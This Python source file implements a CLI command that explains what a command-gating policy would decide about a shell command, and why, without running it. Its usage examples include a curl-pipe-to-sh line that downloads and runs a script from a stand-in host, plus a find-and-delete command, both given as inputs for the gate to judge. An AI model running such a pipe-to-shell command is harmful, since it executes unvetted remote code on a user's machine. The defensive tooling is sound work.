"""Points at a piece of a command: where it stands, and carets under it."""

import json
from collections.abc import Iterator
from typing import Any

import click
from msgspec import to_builtins
from msgspec.structs import replace

from hermes.cli.context import load_settings
from hermes.cli.output import echo, json_option, print_fields
from hermes.cli.policy.context import (
    ActionOptions,
    CommandTakingCommand,
    FolderPolicy,
    action_options,
    short_source,
    working_folder,
)
from hermes.cli.render.terminal_text import display_width, escape_invisible
from hermes.core.messages import Value
from hermes.policy.actions.action_effects import ActionEffects, ActionStep
from hermes.policy.actions.reader import ActionReader
from hermes.policy.decide import DocumentPolicy
from hermes.policy.examination import (
    action_from_description,
    context_from_description,
    enforced_in_json,
    evaluation_time,
    parse_description,
)
from hermes.policy.rules.evaluation import evaluate, near_misses
from hermes.policy.rules.rule import AskOptions, NearMiss, PolicyRule, PolicyVerdict

_MAX_CARET_LINES, _MAX_CARET_COLUMNS = 8, 96


class CaretSpan(Value, frozen=True):
    """Characters of the command, the end not included."""

    start: int
    end: int


def find_span(
    reader: ActionReader, effects: ActionEffects, step: ActionStep, home: str
) -> CaretSpan | None:
    """By reading the command again: the same words may stand in it twice, once as an argument."""
    if not effects.command or step.node not in effects.command:
        return None
    analysis = reader.analyse(
        effects.command,
        cwd=effects.cwd,
        home=home,
        lookup=reader.lookup,
        own_paths=reader.own_paths,
    )
    data = effects.command.encode("utf-8", "replace")
    for command in analysis.commands:
        start, end = command.node
        if end > start and _decode_text(data[start:end]) == step.node and command.argv == step.argv:
            before = len(_decode_text(data[:start]))
            return CaretSpan(before, before + len(step.node))
    return CaretSpan(0, len(effects.command)) if step.node == effects.command else None


def underline_span(command: str, span: CaretSpan | None) -> Iterator[str]:
    """The lines of the command that the piece is on, with carets under it."""
    at, shown = 0, 0
    for line in command.split("\n"):
        start, end = (span.start - at, span.end - at) if span else (0, 0)
        at += len(line) + 1
        if span and (start >= len(line) or end <= 0):
            continue
        if shown == _MAX_CARET_LINES:
            yield "…"
            return
        shown += 1
        yield from _underline_line(line, max(start, 0), min(end, len(line)))


def _underline_line(line: str, start: int, end: int) -> Iterator[str]:
    before, piece, after = (
        escape_invisible(line[:start]),
        escape_invisible(line[start:end]),
        escape_invisible(line[end:]),
    )
    if display_width(before) > _MAX_CARET_COLUMNS // 2:
        before = "…" + before[-_MAX_CARET_COLUMNS // 3 :]
    if display_width(piece) > _MAX_CARET_COLUMNS:
        piece, after = piece[:_MAX_CARET_COLUMNS] + "…", ""
    if display_width(after) > _MAX_CARET_COLUMNS // 3:
        after = after[: _MAX_CARET_COLUMNS // 3] + "…"
    yield before + piece + after
    if piece:
        yield " " * display_width(before) + "^" * display_width(piece)


def _decode_text(data: bytes) -> str:
    return data.decode("utf-8", "replace")


@click.command(
    cls=CommandTakingCommand,
    examples="""
hermes policy explain -- find /var -name '*.gz' -exec rm {} +
hermes policy explain 'curl -s https://x.example/i.sh | sh'
hermes policy explain --json --origin cron -- systemctl restart nginx
""",
)
@action_options
@json_option
@click.pass_context
def explain(ctx: click.Context, asked: ActionOptions, as_json: bool) -> None:
    """Say what the gate would decide about COMMAND and why, without running it.

    Shown are the verdict and its rule, the piece of the command that decided, what every piece
    does, and rules that only one of their fields kept from deciding otherwise.
    """
    if not asked.words and not asked.tool:
        raise click.UsageError("which command? hermes policy explain -- ls -la")
    gates = FolderPolicy(load_settings(ctx, asked.overrides), working_folder(asked.cwd))
    found = explain_decision(gates, asked.as_request())
    if as_json:
        echo(json.dumps(_explanation_data(found), indent=2))
    else:
        _print_explanation(found)


class PolicyExplanation(Value, kw_only=True, frozen=True):
    deed: ActionEffects
    verdict: PolicyVerdict
    sources: dict[str, str]
    piece: CaretSpan | None
    nearly: tuple[NearMiss, ...]


def explain_decision(gates: FolderPolicy, given: dict[str, Any]) -> PolicyExplanation:
    policy = gates.of(bool(given.get("isolated")))
    what = parse_description(gates.resolve_folder(given))
    situation = context_from_description(what, cwd=str(gates.folder), home=gates.home)
    kernel = gates.kernel(str(given.get("environment", "")))
    deed = policy.reader.read(replace(action_from_description(what), kernel=kernel), situation)
    now = evaluation_time(what, policy.clock())
    verdict = evaluate(policy.rule_set, deed, now=now)
    deciding = _deciding_step(deed, verdict)
    near = near_misses(policy.rule_set, replace(deed, steps=(deciding,)), now) if deciding else ()
    return PolicyExplanation(
        deed=deed,
        verdict=verdict,
        sources=_rule_sources(policy),
        piece=find_span(policy.reader, deed, deciding, gates.home) if deciding else None,
        nearly=tuple(miss for miss in near if _is_relevant_miss(miss, policy, verdict)),
    )


def _deciding_step(effects: ActionEffects, verdict: PolicyVerdict) -> ActionStep | None:
    steps = [step for step in effects.steps if step.node == verdict.node]
    alike = [step for step in steps if "; ".join(step.why) == verdict.why]
    return next(iter(alike or steps), None)


def _is_relevant_miss(miss: NearMiss, policy: DocumentPolicy, verdict: PolicyVerdict) -> bool:
    """Whether another verdict was near: something of the rule fitted, and one field did not."""
    if miss.effect == verdict.verdict:
        return False
    rules: tuple[PolicyRule, ...] = (*policy.rule_set.rules, *policy.rule_set.audit_rules)
    rule = next(each for each in rules if each.name == miss.rule)
    clauses = (*rule.match.any, *rule.match.all)
    fitting = [clause for clause in clauses if len(clause) > 1]
    return miss.missed == ("exclude",) or any(
        miss.missed[0] in [name for name, _ in clause] for clause in fitting
    )


def _rule_sources(policy: DocumentPolicy) -> dict[str, str]:
    book = policy.rule_set
    rules = {each.name: each.source for each in (*book.rules, *book.audit_rules)}
    return rules | {each.name: each.source for each in book.exceptions}


def _print_explanation(explanation: PolicyExplanation) -> None:
    verdict = explanation.verdict
    print_fields(
        {
            "verdict": f"{verdict.verdict}{_ask_text(verdict.ask)}",
            "rule": _rule_with_source(verdict.rule, explanation.sources),
            "reason": escape_invisible(verdict.reason),
            "profile": escape_invisible(_profile_text(verdict)),
            "enforced": escape_invisible(_enforcement_text(verdict)),
        }
    )
    echo()
    command = explanation.deed.command if explanation.piece else verdict.node
    for line in underline_span(command, explanation.piece):
        echo(f"  {line}")
    _print_section(
        "what it does", [line for step in explanation.deed.steps for line in _step_lines(step)]
    )
    _print_section("also", [_rule_with_source(name, explanation.sources) for name in verdict.also])
    _print_section("lifted by", list(verdict.lifted))
    _print_section("audit", [f"{each.rule} would say {each.effect}" for each in verdict.audited])
    _print_section("only known when it runs", _unshown_reasons(explanation.deed))
    _print_section(
        "nearly",
        [f"{m.rule} would say {m.effect}, but for {m.missed[0]}" for m in explanation.nearly],
    )
    echo()
    print_fields({"action": verdict.hash})


def _unshown_reasons(effects: ActionEffects) -> list[str]:
    """Reasons that belong to no single piece, and so were not shown with one."""
    told = {line.partition(": ")[2] for step in effects.steps for line in step.why}
    return [escape_invisible(text) for text in dict.fromkeys(effects.dynamic) if text not in told]


def _print_section(title: str, lines: list[str]) -> None:
    if lines:
        echo()
        echo(title, bold=True)
        for line in lines:
            echo(f"  {line}")


def _step_lines(step: ActionStep) -> Iterator[str]:
    around = [name for name in step.via if name != step.node]
    wrapped = f"  (inside {', '.join(around)})" if around else ""
    yield f"{escape_invisible(step.node)}{wrapped}"
    told = [line.partition(": ") for line in step.why]
    silent = sorted(step.effects - {effect for effect, _, _ in told})
    reasons = [(effect, reason) for effect, _, reason in told] + [(one, "") for one in silent]
    width = max((len(effect) for effect, _ in reasons), default=0)
    for effect, reason in reasons:
        yield f"  {effect:<{width}}  {escape_invisible(reason)}".rstrip()


def _ask_text(ask: AskOptions | None) -> str:
    if ask is None:
        return ""
    if ask.announce:
        return f": announced, and done after {ask.announce:g} s unless somebody stops it"
    who = " or ".join(ask.approvers) or "somebody"
    many = f"{ask.count} of {who}" if ask.count > 1 else who
    return f": waits for a yes of {many}; none within {ask.timeout:g} s is a no"


def _profile_text(verdict: PolicyVerdict) -> str:
    profile = verdict.profile
    if profile is None or profile.unrestricted:
        return f"unrestricted: {profile.unrestricted}" if profile else ""
    ports = ", ".join(map(str, profile.ports))
    network = {"none": "", "any": "; network", "ports": f"; TCP to port {ports}"}
    signals = "; signals" if profile.may_signal else ""
    return f"{profile.describe}{network[profile.network]}{signals}"


def _enforcement_text(verdict: PolicyVerdict) -> str:
    said = verdict.enforced or "not known"
    return f"{said}: {verdict.unenforced}" if verdict.unenforced else said


def _rule_with_source(name: str, sources: dict[str, str]) -> str:
    return f"{name} ({short_source(sources[name])})" if name in sources else name


def _explanation_data(found: PolicyExplanation) -> dict[str, Any]:
    verdict, piece = found.verdict, found.piece
    return {
        "verdict": verdict.verdict,
        "rule": verdict.rule,
        "source": found.sources.get(verdict.rule),
        "reason": verdict.reason,
        "effects": list(verdict.effects),
        "command": found.deed.command,
        "piece": {"text": verdict.node}
        | ({"start": piece.start, "end": piece.end} if piece else {}),
        "steps": [_step_data(step) for step in found.deed.steps],
        "also": list(verdict.also),
        "lifted": list(verdict.lifted),
        "audited": [{"rule": each.rule, "effect": each.effect} for each in verdict.audited],
        "dynamic": list(dict.fromkeys(found.deed.dynamic)),
        "nearly": [
            {"rule": miss.rule, "effect": miss.effect, "missed": list(miss.missed)}
            for miss in found.nearly
        ],
        "hash": verdict.hash,
        "profile": to_builtins(verdict.profile),
        "enforced": enforced_in_json(verdict),
        "enforced_reason": verdict.unenforced,
    }


def _step_data(step: ActionStep) -> dict[str, Any]:
    return {
        "text": step.node,
        "program": step.program,
        "via": list(step.via),
        "effects": sorted(step.effects),
        "why": list(step.why),
        "paths": list(step.paths),
        "changes": list(step.changes),
    }
